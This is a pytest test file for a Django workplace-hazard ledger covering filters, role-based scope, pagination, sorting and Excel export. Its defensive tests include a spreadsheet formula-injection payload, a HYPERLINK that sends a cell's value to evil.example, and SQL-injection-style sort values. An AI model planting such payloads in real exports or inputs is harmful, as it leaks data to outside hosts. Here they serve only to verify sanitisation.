"""The ledger (隐患台账): filters, scope, query count, sorting, and the Excel export."""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, timedelta
from typing import Any
from urllib.parse import quote

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from campaigns.models import Campaign
from inspections import services
from inspections.ledger import COLUMNS, write_ledger_xlsx
from inspections.models import Hazard
from safetyops.orgs.models import Role
from tests.conftest import World
from tests.orgs.factories import make_user

HEADER = [name for name, _width in COLUMNS]


@dataclass
class Ledger:
    """Hazards in different places, levels and states; `today` is the day the test runs."""

    a_general: Hazard  # ent_a (village A, 危化), registered, overdue 5 days
    a_major: Hazard  # ent_a, 重大, rectifying, 挂牌督办, in the campaign
    a_self: Hazard  # ent_a, 企业自查, explicitly 建筑施工 sector, registered 20 days ago
    a2_closed: Hazard  # ent_a2 (town A, 建筑), closed, deadline in the past (closed, so not overdue)
    b_general: Hazard  # ent_b (town B, 建筑), registered
    b_major: Hazard  # ent_b, 重大, awaiting verification, overdue 2 days
    campaign: Campaign
    today: date

    def all(self) -> list[Hazard]:
        return [self.a_general, self.a_major, self.a_self, self.a2_closed, self.b_general, self.b_major]

    def numbers(self, *hazards: Hazard) -> set[str]:
        return {h.number for h in hazards}


def _reload(hazard: Hazard) -> Hazard:
    return Hazard.objects.get(pk=hazard.pk)


@pytest.fixture
def ledger(world: World, hazard_factory: Callable[..., Hazard]) -> Ledger:
    today = timezone.localdate()
    campaign = Campaign.objects.create(
        kind=Campaign.Kind.GREAT_INSPECTION,
        name="2026年安全生产大排查大整治",
        year=today.year,
        node=world.county,
        starts_on=today - timedelta(days=30),
        ends_on=today + timedelta(days=60),
    )
    a_general = hazard_factory(level="general", status="registered", enterprise=world.ent_a)
    a_major = hazard_factory(level="major", status="rectifying", enterprise=world.ent_a)
    services.hazard_list_supervision(actor=world.county_admin, hazard_id=a_major.pk, comment="县级挂牌")
    a_self = services.hazard_register(
        actor=world.enterprise_a,
        enterprise_id=world.ent_a.pk,
        data=services.HazardInput(
            level="general",
            category="behaviour",
            description="脚手架作业未系安全带",
            deadline=today + timedelta(days=7),
            sector_id=world.sector_build.pk,
        ),
    )
    a2_user = make_user(Role.ENTERPRISE_USER, enterprise=world.ent_a2, username="enterprise_a2")
    a2_closed = hazard_factory(level="general", status="closed", enterprise=world.ent_a2, enterprise_user=a2_user)
    b_general = hazard_factory(level="general", status="registered", enterprise=world.ent_b)
    b_major = hazard_factory(level="major", status="awaiting_verification", enterprise=world.ent_b)
    # Setup only: the services refuse past deadlines, so age the rows directly.
    Hazard.objects.filter(pk=a_general.pk).tally_update(deadline=today - timedelta(days=5))
    Hazard.objects.filter(pk=b_major.pk).tally_update(deadline=today - timedelta(days=2))
    Hazard.objects.filter(pk=a2_closed.pk).tally_update(deadline=today - timedelta(days=9))
    Hazard.objects.filter(pk=a_self.pk).tally_update(registered_at=timezone.now() - timedelta(days=20))
    Hazard.objects.filter(pk=a_major.pk).update(campaign=campaign, description="粉尘涉爆除尘系统未设泄爆装置")
    return Ledger(
        a_general=_reload(a_general),
        a_major=_reload(a_major),
        a_self=_reload(a_self),
        a2_closed=_reload(a2_closed),
        b_general=_reload(b_general),
        b_major=_reload(b_major),
        campaign=campaign,
        today=today,
    )


def listed(client: Any, **params: Any) -> set[str]:
    response = client.get(reverse("inspections:hazard_ledger"), params)
    assert response.status_code == 200
    return {hazard.number for hazard in response.context["page"].object_list}


# Filters ---------------------------------------------------------------------------------------


def test_unfiltered_county_ledger_lists_everything(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.county_admin)
    assert listed(client) == ledger.numbers(*ledger.all())


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"node": "town_a"}, ["a_general", "a_major", "a_self", "a2_closed"]),
        ({"node": "town_b"}, ["b_general", "b_major"]),
        ({"level": "major"}, ["a_major", "b_major"]),
        ({"status": "closed"}, ["a2_closed"]),
        ({"status": "registered"}, ["a_general", "a_self", "b_general"]),
        ({"overdue": "on"}, ["a_general", "b_major"]),
        ({"listed": "on"}, ["a_major"]),
        ({"campaign": "campaign"}, ["a_major"]),
        ({"source": "self"}, ["a_self"]),
        ({"source": "inspection"}, ["a_general", "a_major", "a2_closed", "b_general", "b_major"]),
        # A hazard's own sector wins; without one it counts under its enterprise's sectors.
        ({"sector": "sector_chem"}, ["a_general", "a_major"]),
        ({"sector": "sector_build"}, ["a_self", "a2_closed", "b_general", "b_major"]),
        ({"q": "西山建设"}, ["b_general", "b_major"]),
        ({"q": "泄爆"}, ["a_major"]),
        ({"level": "major", "node": "town_b", "overdue": "on"}, ["b_major"]),
    ],
)
def test_each_filter_narrows(
    client: Any, world: World, ledger: Ledger, params: dict[str, str], expected: list[str]
) -> None:
    refs = {"town_a": world.town_a, "town_b": world.town_b, "campaign": ledger.campaign}
    refs |= {"sector_chem": world.sector_chem, "sector_build": world.sector_build}
    query = {key: (refs[value].pk if value in refs else value) for key, value in params.items()}
    client.force_login(world.county_admin)
    assert listed(client, **query) == ledger.numbers(*(getattr(ledger, name) for name in expected))


def test_search_by_number(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.county_admin)
    assert listed(client, q=ledger.b_general.number.lower()) == {ledger.b_general.number}


def test_registered_date_range(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.county_admin)
    cut = (ledger.today - timedelta(days=10)).isoformat()
    assert listed(client, registered_to=cut) == {ledger.a_self.number}
    everything_else = ledger.numbers(*ledger.all()) - {ledger.a_self.number}
    assert listed(client, registered_from=cut, registered_to=ledger.today.isoformat()) == everything_else


def test_reversed_date_range_is_explained_and_lists_nothing(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.county_admin)
    response = client.get(
        reverse("inspections:hazard_ledger"),
        {"registered_from": ledger.today.isoformat(), "registered_to": "2020-01-01"},
    )
    assert list(response.context["page"].object_list) == []
    assert "结束日期不能早于开始日期" in response.content.decode()


def test_summary_counts_total_major_and_overdue(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.county_admin)
    summary = client.get(reverse("inspections:hazard_ledger")).context["summary"]
    assert (summary.total, summary.major, summary.overdue) == (6, 2, 2)
    summary = client.get(reverse("inspections:hazard_ledger"), {"node": world.town_a.pk}).context["summary"]
    assert (summary.total, summary.major, summary.overdue) == (4, 1, 1)


def test_rows_show_overdue_badge_and_listed_badge(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.county_admin)
    body = client.get(reverse("inspections:hazard_ledger")).content.decode()
    assert "逾期5天" in body and "逾期2天" in body and "逾期9天" not in body  # closed is never overdue
    assert body.count("挂牌</span>") == 1
    assert reverse("inspections:hazard_detail", args=[ledger.a_major.pk]) in body


def test_a_hazard_becomes_overdue_as_time_passes(
    client: Any, world: World, hazard_factory: Callable[..., Hazard]
) -> None:
    hazard = hazard_factory(enterprise=world.ent_a, deadline=timezone.localdate() + timedelta(days=2))
    client.force_login(world.official_a)
    assert listed(client, overdue="on") == set()
    with time_machine.travel(timezone.now() + timedelta(days=5), tick=False):
        client.force_login(world.official_a)  # the session would have expired
        assert listed(client, overdue="on") == {hazard.number}
        assert "逾期3天" in client.get(reverse("inspections:hazard_ledger")).content.decode()


# Scope -----------------------------------------------------------------------------------------


def test_official_never_sees_the_other_township(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.official_a)
    town_b = ledger.numbers(ledger.b_general, ledger.b_major)
    assert listed(client) == ledger.numbers(ledger.a_general, ledger.a_major, ledger.a_self, ledger.a2_closed)
    response = client.get(reverse("inspections:hazard_ledger"), {"node": world.town_b.pk})
    assert response.status_code == 200
    assert "node" in response.context["form"].errors
    assert list(response.context["page"].object_list) == []
    body = response.content.decode()
    assert not any(number in body for number in town_b)
    assert world.ent_b.name not in body


def test_village_is_a_choice_for_the_township_official(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.official_a)
    assert listed(client, node=world.village_a.pk) == ledger.numbers(ledger.a_general, ledger.a_major, ledger.a_self)


def test_supervisor_sees_only_their_sector_in_their_township(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.supervisor_a)
    assert listed(client) == {ledger.a2_closed.number}


def test_enterprise_user_sees_only_their_own(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.enterprise_a)
    own = ledger.numbers(ledger.a_general, ledger.a_major, ledger.a_self)
    assert listed(client) == own
    response = client.get(reverse("inspections:hazard_ledger"), {"node": world.town_b.pk})
    assert list(response.context["page"].object_list) == []
    body = client.get(reverse("inspections:hazard_ledger")).content.decode()
    assert reverse("inspections:hazard_export") not in body and 'name="node"' not in body


def test_user_without_a_role_is_refused(client: Any, world: World) -> None:
    client.force_login(world.nobody)
    assert client.get(reverse("inspections:hazard_ledger")).status_code == 403


def test_anonymous_is_sent_to_login(client: Any, world: World) -> None:
    for name in ("inspections:hazard_ledger", "inspections:hazard_export"):
        response = client.get(reverse(name))
        assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_campaign_choices_are_limited_to_the_scope(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.official_b)
    assert list(client.get(reverse("inspections:hazard_ledger")).context["form"].fields["campaign"].queryset) == []
    assert listed(client, campaign=ledger.campaign.pk) == set()


# Query count, htmx, sorting, pagination ----------------------------------------------------------


def _clone(template: Hazard, count: int, *, prefix: str, **overrides: Any) -> None:
    """Rows straight into the table, for volume; every field copied from a service-made hazard."""
    fields = {f.attname: getattr(template, f.attname) for f in Hazard._meta.concrete_fields if not f.primary_key}
    fields.update(overrides)
    Hazard.objects.tally_bulk_create(
        [Hazard(**{**fields, "number": f"{prefix}-{i:06d}"}) for i in range(count)], batch_size=1000
    )


def test_query_count_does_not_grow_with_rows(client: Any, world: World, hazard_factory: Callable[..., Hazard]) -> None:
    first = hazard_factory(enterprise=world.ent_a)
    hazard_factory(enterprise=world.ent_a2, level="major")
    hazard_factory(enterprise=world.ent_b)
    # The page reads each relation of its rows by key, once per relation present: give the few
    # rows a sector too, as the many have.
    Hazard.objects.filter(pk=first.pk).update(sector=world.sector_chem)
    client.force_login(world.county_admin)
    client.get(reverse("inspections:hazard_ledger"))  # warm per-process caches (content types, sessions)
    with CaptureQueriesContext(connection) as few:
        assert client.get(reverse("inspections:hazard_ledger")).context["summary"].total == 3
    _clone(first, 9, prefix="A", enterprise_id=world.ent_b.pk, node_id=world.town_b.pk)
    _clone(first, 9, prefix="B", enterprise_id=world.ent_a2.pk, node_id=world.town_a.pk, listed_supervision=False)
    _clone(first, 9, prefix="C", sector_id=world.sector_chem.pk, deadline=timezone.localdate() - timedelta(days=3))
    with CaptureQueriesContext(connection) as many:
        response = client.get(reverse("inspections:hazard_ledger"))
    assert len(response.context["page"].object_list) == 30
    assert len(many.captured_queries) == len(few.captured_queries), re.sub(
        r"\s+", " ", "\n".join(q["sql"] for q in many.captured_queries)
    )


def test_htmx_gets_only_the_results(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.county_admin)
    response = client.get(reverse("inspections:hazard_ledger"), {"level": "major"}, HTTP_HX_REQUEST="true")
    body = response.content.decode()
    assert "<html" not in body and ledger.b_major.number in body and ledger.b_general.number not in body
    assert "HX-Request" in response["Vary"]
    restore = client.get(
        reverse("inspections:hazard_ledger"), HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true"
    )
    assert "<html" in restore.content.decode()


def test_page_has_the_htmx_filter_form(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.official_a)
    body = client.get(reverse("inspections:hazard_ledger")).content.decode()
    assert 'hx-target="#results"' in body and 'hx-push-url="true"' in body and 'id="results"' in body


def _order(client: Any, **params: Any) -> list[str]:
    return [h.number for h in client.get(reverse("inspections:hazard_ledger"), params).context["page"].object_list]


def test_sorting_is_whitelisted(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.county_admin)
    default = _order(client)
    assert default[-1] == ledger.a_self.number  # registered 20 days ago: last, newest first
    assert _order(client, sort="registered")[0] == ledger.a_self.number
    numbers = sorted(ledger.numbers(*ledger.all()))
    assert _order(client, sort="number") == numbers
    assert _order(client, sort="-number") == numbers[::-1]
    assert _order(client, sort="deadline")[0] == ledger.a2_closed.number
    assert _order(client, sort="-deadline")[-1] == ledger.a2_closed.number
    for bad in ("enterprise__credit_code", "-pk", "registered_by__password", "'; DROP TABLE"):
        response = client.get(reverse("inspections:hazard_ledger"), {"sort": bad})
        assert response.status_code == 200
        assert [h.number for h in response.context["page"].object_list] == default


def test_pages_of_fifty(client: Any, world: World, hazard_factory: Callable[..., Hazard]) -> None:
    _clone(hazard_factory(enterprise=world.ent_a), 54, prefix="P")
    client.force_login(world.official_a)
    first = client.get(reverse("inspections:hazard_ledger"), {"sort": "number"})
    assert len(first.context["page"].object_list) == 50 and first.context["page"].paginator.num_pages == 2
    second = client.get(reverse("inspections:hazard_ledger"), {"sort": "number", "page": 2})
    assert len(second.context["page"].object_list) == 5
    assert "?sort=number&page=2" in first.content.decode()


# Export ----------------------------------------------------------------------------------------


def _workbook(response: Any) -> Any:
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def _data_rows(sheet: Any) -> list[tuple[Any, ...]]:
    return [row for row in sheet.iter_rows(min_row=4, values_only=True) if row[0] is not None]


def test_export_is_the_current_filter(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.leader_county)
    response = client.get(reverse("inspections:hazard_export"), {"level": "major", "sort": "number"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    filename = f"隐患台账-{ledger.today:%Y%m%d}.xlsx"
    assert f"filename*=utf-8''{quote(filename)}" in response["Content-Disposition"]
    sheet = _workbook(response).active
    assert sheet["A1"].value == "隐患排查治理台账"
    assert "导出时间" in sheet["A2"].value and "等级：重大隐患" in sheet["A2"].value
    assert [cell.value for cell in sheet[3]] == HEADER
    assert sheet.freeze_panes == "C4"
    rows = _data_rows(sheet)
    col = {name: index for index, name in enumerate(HEADER)}
    by_number = {row[col["隐患编号"]]: row for row in rows}
    assert set(by_number) == ledger.numbers(ledger.a_major, ledger.b_major)
    assert [row[col["序号"]] for row in rows] == [1, 2]
    b_major = by_number[ledger.b_major.number]
    assert b_major[col["企业名称"]] == world.ent_b.name
    assert b_major[col["统一社会信用代码"]] == world.ent_b.credit_code
    assert b_major[col["隐患等级"]] == "重大隐患"
    assert b_major[col["状态"]] == "待验收"
    assert (b_major[col["是否逾期"]], b_major[col["逾期天数"]]) == ("是", 2)
    assert b_major[col["整改期限"]].date() == ledger.b_major.deadline
    a_major = by_number[ledger.a_major.number]
    assert a_major[col["所在地区"]] == "东城镇东村"
    assert (a_major[col["是否逾期"]], a_major[col["逾期天数"]], a_major[col["挂牌督办"]]) == ("否", None, "是")
    registered = timezone.localtime(ledger.a_major.registered_at).replace(tzinfo=None, second=0, microsecond=0)
    assert a_major[col["登记时间"]].replace(second=0, microsecond=0) == registered
    assert a_major[col["登记人"]] == str(world.official_a)


def test_export_of_closed_hazard_has_its_closing_time(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.official_a)
    sheet = _workbook(client.get(reverse("inspections:hazard_export"), {"status": "closed"})).active
    (row,) = _data_rows(sheet)
    assert row[HEADER.index("隐患编号")] == ledger.a2_closed.number
    assert row[HEADER.index("销号时间")] is not None and row[HEADER.index("是否逾期")] == "否"
    assert sheet.cell(row=4, column=HEADER.index("销号时间") + 1).number_format == "yyyy-mm-dd hh:mm"


def test_export_stays_in_scope(client: Any, world: World, ledger: Ledger) -> None:
    client.force_login(world.official_a)
    numbers = {row[1] for row in _data_rows(_workbook(client.get(reverse("inspections:hazard_export"))).active)}
    assert numbers == ledger.numbers(ledger.a_general, ledger.a_major, ledger.a_self, ledger.a2_closed)
    assert client.get(reverse("inspections:hazard_export"), {"node": world.town_b.pk}).status_code == 400


@pytest.mark.parametrize(
    ("role", "status"),
    [("leader_county", 200), ("leader_a", 200), ("supervisor_a", 200), ("enterprise_a", 403), ("nobody", 403)],
)
def test_export_needs_the_export_right(client: Any, world: World, ledger: Ledger, role: str, status: int) -> None:
    client.force_login(world.users()[role])
    assert client.get(reverse("inspections:hazard_export")).status_code == status


def test_a_hazard_without_a_sector_shows_its_enterprises_sectors(client: Any, world: World, ledger: Ledger) -> None:
    world.ent_a.sectors.add(world.sector_build)
    assert ledger.a_general.sector is None and ledger.a_self.sector == world.sector_build
    client.force_login(world.official_a)
    rows = _data_rows(_workbook(client.get(reverse("inspections:hazard_export"))).active)
    sectors = {row[HEADER.index("隐患编号")]: row[HEADER.index("行业领域")] for row in rows}
    names = "、".join(s.name for s in sorted([world.sector_chem, world.sector_build], key=lambda s: s.sort_order))
    assert sectors[ledger.a_general.number] == names  # was empty
    assert sectors[ledger.a_self.number] == world.sector_build.name  # its own sector wins
    assert sectors[ledger.a2_closed.number] == world.sector_build.name


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B4,"点我查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def excel_text(value: str) -> str:
    """A cell's text as Excel reads it: XlsxWriter stores a control character (\\r) as _x000D_ and a
    literal "_x000D_" as _x005F_x000D_ (Excel's own escapes), which openpyxl leaves undecoded."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


@pytest.mark.parametrize("text", [*FORMULAS, "_x000D_ 字面"])
def test_text_that_looks_like_a_formula_is_exported_as_text(
    client: Any, world: World, ledger: Ledger, tmp_path: Any, text: str
) -> None:
    Hazard.objects.filter(pk=ledger.a_general.pk).update(description=text, location=text)
    world.ent_a.name = text
    world.ent_a.save()
    client.force_login(world.official_a)
    response = client.get(reverse("inspections:hazard_export"), {"q": ledger.a_general.number})
    content = b"".join(response.streaming_content)

    sheet = load_workbook(io.BytesIO(content)).active
    [row] = [r for r in sheet.iter_rows(min_row=4) if r[0].value is not None]
    for name in ("企业名称", "隐患描述", "隐患部位"):
        cell = row[HEADER.index(name)]
        assert (excel_text(cell.value), cell.data_type) == (text, "s")
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml and b't="e"' not in xml


def test_control_characters_excel_cannot_hold_are_dropped_not_a_failed_export(
    client: Any, world: World, ledger: Ledger
) -> None:
    Hazard.objects.filter(pk=ledger.a_general.pk).update(description="报警\x07器失灵", location="=\x01A1")
    client.force_login(world.official_a)
    sheet = _workbook(client.get(reverse("inspections:hazard_export"), {"q": ledger.a_general.number})).active
    [row] = _data_rows(sheet)
    assert (row[HEADER.index("隐患描述")], row[HEADER.index("隐患部位")]) == ("报警器失灵", "=A1")


def test_writer_counts_rows_and_names_the_filter(tmp_path: Any) -> None:
    out = tmp_path / "ledger.xlsx"
    row = ("YH-1", "企业", "91110000600037341L", "东城镇", "", "一般隐患", "管理缺陷", "监管检查", "描述", "")
    with out.open("wb") as handle:
        count = write_ledger_xlsx([row] * 3, handle, title="隐患排查治理台账", filter_summary="仅逾期")
    assert count == 3
    sheet = load_workbook(out).active
    assert sheet["A2"].value.endswith("筛选条件：仅逾期")
    assert [r[0] for r in _data_rows(sheet)] == [1, 2, 3]


@pytest.mark.slow
def test_export_of_3000_rows(client: Any, world: World, hazard_factory: Callable[..., Hazard]) -> None:
    template = hazard_factory(enterprise=world.ent_a)
    _clone(template, 1500, prefix="X")
    _clone(template, 1499, prefix="Y", enterprise_id=world.ent_b.pk, node_id=world.town_b.pk, level="major")
    client.force_login(world.county_admin)
    response = client.get(reverse("inspections:hazard_export"), {"sort": "number"})
    assert response.status_code == 200
    rows = _data_rows(_workbook(response).active)
    assert len(rows) == 3000 == Hazard.objects.count()
    assert rows[-1][0] == 3000 and rows[-1][1] == template.number  # "YH-..." sorts after "Y-..."


def test_open_status_filter_lists_every_status_but_closed(client: Any, world: World, hazard_factory: Any) -> None:
    """The dashboard's 未销号 card links to ?status=open."""
    open_one = hazard_factory(status="rectifying")
    hazard_factory(status="closed")
    client.force_login(world.official_a)
    response = client.get(reverse("inspections:hazard_ledger"), {"status": "open"})
    assert [h.pk for h in response.context["page"].object_list] == [open_one.pk]


def _link(response: Any, label: str) -> str | None:
    found = re.search(rf'<a class="page-link" href="([^"]+)"[^>]*>{label}</a>', response.content.decode())
    return html.unescape(found.group(1)) if found else None


def test_next_and_previous_links_walk_the_offset_pages_by_key(
    client: Any, world: World, hazard_factory: Callable[..., Hazard], monkeypatch: Any
) -> None:
    """In the default order 下一页/上一页 carry the edge rows' keys, and the pages they reach are the
    ones ?page=N gives, ties in registration time included."""
    monkeypatch.setattr("inspections.views.ledger.PAGE_SIZE", 4)
    first = hazard_factory(enterprise=world.ent_a)
    _clone(first, 8, prefix="T")  # nine hazards registered at the same instant
    hazard_factory(enterprise=world.ent_a2)
    client.force_login(world.county_admin)
    by_offset = [
        [h.number for h in client.get(reverse("inspections:hazard_ledger"), {"page": n}).context["page"].object_list]
        for n in (1, 2, 3)
    ]
    assert [len(rows) for rows in by_offset] == [4, 4, 2]
    walked, response = [], client.get(reverse("inspections:hazard_ledger"))
    while True:
        walked.append([h.number for h in response.context["page"].object_list])
        url = _link(response, "下一页")
        if url is None:
            break
        assert "after=" in url
        response = client.get(url)
    assert walked == by_offset
    back = []
    while (url := _link(response, "上一页")) is not None:
        response = client.get(url)
        back.append([h.number for h in response.context["page"].object_list])
    assert back == by_offset[:2][::-1]


def test_cursors_only_in_the_default_order_and_bad_ones_fall_back(
    client: Any, world: World, hazard_factory: Callable[..., Hazard], monkeypatch: Any
) -> None:
    monkeypatch.setattr("inspections.views.ledger.PAGE_SIZE", 2)
    _clone(hazard_factory(enterprise=world.ent_a), 4, prefix="S")
    client.force_login(world.county_admin)
    assert "after=" not in (_link(client.get(reverse("inspections:hazard_ledger"), {"sort": "number"}), "下一页") or "")
    plain = client.get(reverse("inspections:hazard_ledger"), {"page": 2}).context["page"].object_list
    for bad in ("x", "1_2_3", "99999999999999999999999999_1", "-5_abc"):
        response = client.get(reverse("inspections:hazard_ledger"), {"page": 2, "after": bad})
        assert response.status_code == 200
        assert list(response.context["page"].object_list) == list(plain)
